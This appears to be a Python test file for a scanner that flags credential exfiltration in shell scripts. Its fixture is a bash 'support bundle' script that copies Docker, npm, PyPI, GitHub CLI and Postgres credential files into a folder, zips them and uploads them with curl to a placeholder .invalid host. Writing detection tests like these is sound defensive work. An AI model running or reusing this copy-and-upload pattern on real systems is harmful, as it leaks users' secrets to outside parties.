"""A ``for`` loop over more words than the body is run for one by one (a long list of config files
to bundle): the words that name secret stores are still run through the body each, so copying
each into a folder that is then packed and uploaded reads the stores it names. Hosts are
``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_BUNDLE = (
    "#!/usr/bin/env bash\n"
    "OUT=$(mktemp -d)/support\n"
    'mkdir -p "$OUT/cfg"\n'
    "for item in {items}; do\n"
    '  test -e "$item" && cp "$item" "$OUT/cfg/$(basename "$item")"\n'
    "done\n"
    'zip -qr /tmp/support.zip "$OUT"\n'
    "curl -s --upload-file /tmp/support.zip https://drop.tile-forge.invalid/support\n"
)
_STORES = (
    "~/.docker/config.json ~/.npmrc ~/.pypirc ./app.yaml ./app.log ./settings.ini ./VERSION"
    " ./build.log ./layout.json ~/.config/gh/hosts.yml ~/.pgpass"
)
_PROJECT = "./app.yaml ./app.log ./settings.ini ./VERSION ./build.log ./layout.json ./a.txt ./b.txt ./c.txt ./d.txt"


def test_stores_in_a_long_loop_list_copied_and_uploaded_are_exfiltration(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"tools/support.sh": _BUNDLE.format(items=_STORES)})
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "tools/support.sh" for rule, path, _ in errors)


def test_stores_in_a_long_list_split_over_lines(tmp_path: Path) -> None:
    items = _STORES.replace(" ./VERSION", " \\\n    ./VERSION")
    errors = scan_errors(tmp_path, {"tools/support.sh": _BUNDLE.format(items=items)})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_project_files_in_a_long_loop_list_uploaded_stay_clean(tmp_path: Path) -> None:
    assert not scan_errors(tmp_path, {"tools/support.sh": _BUNDLE.format(items=_PROJECT)})
